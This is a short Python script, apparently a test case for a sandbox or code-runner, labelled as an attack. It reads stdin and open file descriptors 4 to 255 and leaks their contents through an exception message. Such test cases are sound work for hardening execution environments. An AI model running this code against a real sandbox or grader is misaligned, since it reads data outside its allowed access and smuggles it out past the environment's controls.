# /// attack
# tries = "reads every open file descriptor but its own socket from the start"
# ///

import os

told = []
for fd in [0, *range(4, 256)]:
    try:
        os.set_blocking(fd, False)
        told.append((fd, os.pread(fd, 4096, 0) if fd else os.read(0, 4096)))
    except OSError:
        continue
raise ValueError(str(told))
